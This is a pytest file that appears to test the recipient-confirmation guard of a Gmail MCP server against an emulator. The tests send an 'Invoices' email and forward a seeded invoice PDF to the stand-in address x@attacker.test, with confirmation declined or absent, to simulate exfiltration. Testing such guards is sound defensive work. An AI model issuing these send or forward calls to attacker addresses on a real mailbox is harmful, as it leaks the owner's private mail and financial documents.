from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import mcp_types
import pytest
from gmail_emulator import Emulator
from gmail_mcp.guard.gate import ConfirmMode
from gmail_mcp.runtime.server import ContractServer
from mcp import Client

pytestmark = pytest.mark.anyio


async def dump(server: ContractServer, tool: str, args: dict[str, Any], **kw: Any) -> dict[str, Any]:
    async with Client(server, **kw) as session:
        result = await session.call_tool(tool, args)
    payload = json.loads(result.content[0].text)
    print(
        "=====",
        tool,
        json.dumps(args),
        "isError",
        result.is_error,
        "structured is None",
        result.structured_content is None,
        len(result.content),
    )
    print(json.dumps(payload, indent=1, ensure_ascii=False))
    return payload


async def test_a(make_server: Callable[..., ContractServer], emu: Emulator) -> None:
    await dump(
        make_server(confirm=ConfirmMode.NEW_RECIPIENTS),
        "send_email",
        {"to": "x@attacker.test", "subject": "Invoices", "body": "y"},
    )
    print(emu.seeded_drafts, emu.mailbox.draft_ids())


async def test_b(make_server: Callable[..., ContractServer], emu: Emulator) -> None:
    async def cb(context: Any, params: Any) -> mcp_types.ElicitResult:
        return mcp_types.ElicitResult(action="decline")

    await dump(
        make_server(confirm=ConfirmMode.NEW_RECIPIENTS),
        "send_email",
        {"to": "x@attacker.test", "subject": "Invoices", "body": "y"},
        mode="legacy",
        elicitation_callback=cb,
    )
    await dump(
        make_server(confirm=ConfirmMode.NEW_RECIPIENTS),
        "forward_email",
        {"message_id": emu.seeded["invoice_pdf"], "to": "x@attacker.test"},
        mode="legacy",
        elicitation_callback=cb,
    )
    await dump(
        make_server(confirm=ConfirmMode.NEW_RECIPIENTS),
        "send_email",
        {"to": "x@attacker.test", "subject": "Invoices", "body": "y"},
        mode="legacy",
    )
